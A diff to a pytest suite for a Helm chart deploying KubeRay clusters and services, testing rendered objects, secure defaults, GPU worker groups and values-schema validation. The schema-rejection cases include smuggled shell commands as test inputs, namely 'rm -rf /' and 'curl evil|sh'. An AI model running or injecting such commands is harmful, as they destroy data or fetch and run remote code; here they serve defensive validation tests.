@@ -74,7 +74,9 @@ def test_helm_lint_strict(values):
 def test_rendered_objects_match_their_schemas(rendered, crd_schemas):
     values, docs = rendered
     kinds = sorted(d["kind"] for d in docs)
-    assert kinds == sorted(["ConfigMap", "NetworkPolicy", "ServiceAccount", MAIN_KIND[values["workload"]]])
+    expected = ["ConfigMap", "NetworkPolicy", "ServiceAccount", MAIN_KIND[values["workload"]]]
+    expected += ["PodDisruptionBudget"] if values["podDisruptionBudget"]["enabled"] else []
+    assert kinds == sorted(expected)
     for doc in docs:
         where = f"{doc['kind']} {doc['metadata']['name']}"
         if doc["kind"] in CUSTOM_KINDS:
@@ -181,12 +183,10 @@ def test_secure_defaults(rendered):
         assert spec["securityContext"]["seccompProfile"] == {"type": "RuntimeDefault"}, where
         assert not spec.get("hostNetwork") and not spec.get("hostPID") and not spec.get("hostIPC"), where
         assert all("hostPath" not in v for v in spec.get("volumes", [])), where
-        if where == "head" and autoscaling:
-            # KubeRay gives the autoscaler its own ServiceAccount with the rights it needs.
-            assert "serviceAccountName" not in spec
-        else:
-            assert spec["serviceAccountName"] == account["metadata"]["name"], where
-            assert spec["automountServiceAccountToken"] is False, where
+        # every pod runs as the release's account (workload identity: its annotations); only an
+        # autoscaling head mounts its token, for the autoscaler sidecar KubeRay grants a Role on it
+        assert spec["serviceAccountName"] == account["metadata"]["name"], where
+        assert spec["automountServiceAccountToken"] is (where == "head" and autoscaling), where
         for container in containers_of(pod):
             _check_container_security(container["securityContext"], f"{where}/{container['name']}")
             _check_resources(container["resources"], f"{where}/{container['name']}")
@@ -214,14 +214,28 @@ def test_gpu_worker_group(rendered):
     values, docs = rendered
     main = next(d for d in docs if d["kind"] in CUSTOM_KINDS)
     workers = values["workers"]
-    (group,) = ray_cluster(main)["workerGroupSpecs"]
-    spec = group["template"]["spec"]
-    (container,) = spec["containers"]
-    gpus = workers["gpusPerPod"]
-    assert container["resources"]["limits"].get("nvidia.com/gpu") == (gpus or None)
-    assert spec.get("tolerations", []) == workers["tolerations"]
-    assert spec.get("nodeSelector", {}) == workers["nodeSelector"]
-    assert spec.get("affinity", {}) == workers["affinity"]
+    group, *more = ray_cluster(main)["workerGroupSpecs"]
+    assert len(more) == len(workers["additionalGroups"])
+    # an additional group inherits every workers setting it does not set, empty ones included
+    for own, rendered_group in zip([{}, *workers["additionalGroups"]], [group, *more], strict=True):
+        settings = {**workers, **own}
+        spec = rendered_group["template"]["spec"]
+        (container,) = spec["containers"]
+        gpus = settings["gpusPerPod"]
+        assert container["resources"]["limits"].get("nvidia.com/gpu") == (gpus or None)
+        for name, quantity in settings["extraResources"].items():  # e.g. EFA interfaces
+            resources = container["resources"]
+            assert resources["limits"][name] == resources["requests"][name] == quantity
+        for key in ("tolerations", "topologySpreadConstraints", "initContainers"):
+            assert spec.get(key, []) == settings[key], key
+        for key in ("nodeSelector", "affinity"):
+            assert spec.get(key, {}) == settings[key], key
+        for key in ("runtimeClassName", "priorityClassName"):
+            assert spec.get(key, "") == settings[key], key
+        assert container.get("envFrom", []) == settings["envFrom"]
+        assert all(e in container["env"] for e in settings["env"])
+        assert all(m in container["volumeMounts"] for m in settings["extraVolumeMounts"])
+        assert all(v in spec["volumes"] for v in settings["extraVolumes"])
     for where, pod in pod_templates(main):
         if where == "submitter":
             continue
@@ -268,7 +282,7 @@ def test_tune_autoscaling_matches_concurrent_trials(rendered):
     assert cluster["enableInTreeAutoscaling"] is True
     (group,) = cluster["workerGroupSpecs"]
     tune = values["tune"]
-    assert group["minReplicas"] == tune["minReplicas"]
+    assert group["replicas"] == group["minReplicas"] == tune["minReplicas"]
     assert group["maxReplicas"] == tune["maxReplicas"]
     gpus_needed = tune["maxConcurrentTrials"] * tune["workersPerTrial"]
     assert group["maxReplicas"] * values["workers"]["gpusPerPod"] >= gpus_needed
@@ -292,6 +306,62 @@ def test_serve_pods_follow_replicas_per_gpu():
     docs = template(CHART / "ci" / "serve-autoscaling-values.yaml")
     (group,) = ray_cluster(by_kind(docs, "RayService")[0])["workerGroupSpecs"]
     assert (group["minReplicas"], group["maxReplicas"]) == (1, 4)  # 2..8 replicas, 2 per GPU
+
+
+def test_production_serving_values():
+    """ci/serve-production-values.yaml: the upgrade strategy, GCS fault tolerance from a Secret,
+    a PodDisruptionBudget over the workers only, and a head that takes no replicas."""
+    values = merge_values(
+        yaml.safe_load((CHART / "values.yaml").read_text()),
+        yaml.safe_load((CHART / "ci" / "serve-production-values.yaml").read_text()),
+    )
+    docs = template(CHART / "ci" / "serve-production-values.yaml", release="serve")
+    (service,) = by_kind(docs, "RayService")
+    assert service["spec"]["upgradeStrategy"] == {"type": "None"}
+    cluster = ray_cluster(service)
+    assert cluster["gcsFaultToleranceOptions"] == {
+        "redisAddress": "redis://vft-redis.ml.svc:6379",
+        "redisPassword": {"valueFrom": {"secretKeyRef": {"name": "vft-redis", "key": "password"}}},
+    }
+    assert cluster["headGroupSpec"]["rayStartParams"]["num-cpus"] == "0"
+    head = cluster["headGroupSpec"]["template"]["spec"]
+    assert head["priorityClassName"] == "vft-critical" and "runtimeClassName" not in head
+    assert {"name": "RAY_LOG_TO_STDERR", "value": "1"} in head["containers"][0]["env"]
+    (budget,) = by_kind(docs, "PodDisruptionBudget")
+    assert budget["spec"]["maxUnavailable"] == values["podDisruptionBudget"]["maxUnavailable"]
+    selector = budget["spec"]["selector"]["matchLabels"]
+    selected = [
+        where
+        for where, pod in pod_templates(service)
+        if selector.items() <= pod["metadata"]["labels"].items()
+    ]
+    assert selected == ["worker gpu", "worker cpu-preprocess"]
+    # 4 one-GPU replicas on 2-GPU pods: 2 pods; the CPU group as configured
+    assert [(g["groupName"], g["replicas"]) for g in cluster["workerGroupSpecs"]] == [
+        ("gpu", 2),
+        ("cpu-preprocess", 1),
+    ]
+
+
+def test_incremental_upgrades_pass_kuberays_options_through(crd_schemas):
+    options = {"gatewayClassName": "istio", "stepSizePercent": 25, "intervalSeconds": 60}
+    sets = ["workload=serve", "serve.upgradeStrategy.type=NewClusterWithIncrementalUpgrade"]
+    sets += [f"serve.upgradeStrategy.clusterUpgradeOptions.{k}={v}" for k, v in options.items()]
+    (service,) = by_kind(template(sets=sets), "RayService")
+    assert service["spec"]["upgradeStrategy"] == {
+        "type": "NewClusterWithIncrementalUpgrade",
+        "clusterUpgradeOptions": options,
+    }
+    assert validate_crd(service, crd_schemas) == []
+
+
+def test_a_model_in_object_storage_is_served_without_a_claim():
+    sets = ["workload=serve", "storage.claimName=", "serve.modelUri=s3://bucket/runs/flowers"]
+    (service,) = by_kind(template(sets=sets), "RayService")
+    (app,) = yaml.safe_load(service["spec"]["serveConfigV2"])["applications"]
+    assert app["args"]["run_dir"] == "s3://bucket/runs/flowers"
+    for _, pod in pod_templates(service):
+        assert "storage" not in {v["name"] for v in pod["spec"]["volumes"]}
 
 
 def test_storage_credentials_come_from_secret_references():
@@ -375,6 +445,17 @@ def test_config_file_from_set_file_is_kept_verbatim():
         ("run.overrides={train.epochs=1;rm -rf /}", "/run/overrides"),
         ("head.resources.limits=null", "/head/resources"),
         ("rayVersion=2.40.0", "/rayVersion"),
+        ("labels.app\\.kubernetes\\.io/instance=other", "/labels/app.kubernetes.io~1instance"),
+        ("head.rayStartParams.num-cpus=0;curl evil|sh", "/head/rayStartParams/num-cpus"),
+        ("workers.rayStartParams.Bad Name=1", "Bad Name"),
+        ("serve.autoscaling.maxReplicas=2147483648", "/serve/autoscaling/maxReplicas"),
+        ("workers.extraResources.nvidia\\.com/gpu=2", "/workers/extraResources/nvidia.com~1gpu"),
+        ("workers.extraResources.efa=1", "efa"),
+        ("serve.upgradeStrategy.type=BlueGreen", "/serve/upgradeStrategy/type"),
+        ("workers.additionalGroups[0].name=gpu", "/workers/additionalGroups/0/name"),
+        ("workers.additionalGroups[0].replicas=1", "/workers/additionalGroups/0"),
+        ("head.runtimeClassName=Not_A_Name", "/head/runtimeClassName"),
+        ("gcsFaultTolerance.redisAddress=redis", "/gcsFaultTolerance/redisAddress"),
     ],
 )
 def test_values_schema_rejects(setting, message):
@@ -392,6 +473,10 @@ def test_values_schema_rejects(setting, message):
         (["storage.claimName="], "storage.claimName"),
         (["storage.type=s3"], "storage.uri"),
         (["storage.type=gcs", "storage.uri=s3://bucket/runs"], "storage.uri"),
+        (["workload=serve", "storage.claimName=", "serve.modelUri=/mnt/vft/runs/a"], "serve.modelUri"),
+        (["gcsFaultTolerance.enabled=true", "gcsFaultTolerance.redisAddress=r:1"], "Tolerance.enabled"),
+        (["workload=serve", "gcsFaultTolerance.enabled=true"], "gcsFaultTolerance.redisAddress"),
+        (["workload=serve", "serve.upgradeStrategy.type=NewClusterWithIncrementalUpgrade"], "gatewayClass"),
     ],
 )
 def test_inconsistent_values_fail_with_the_field(settings, message):
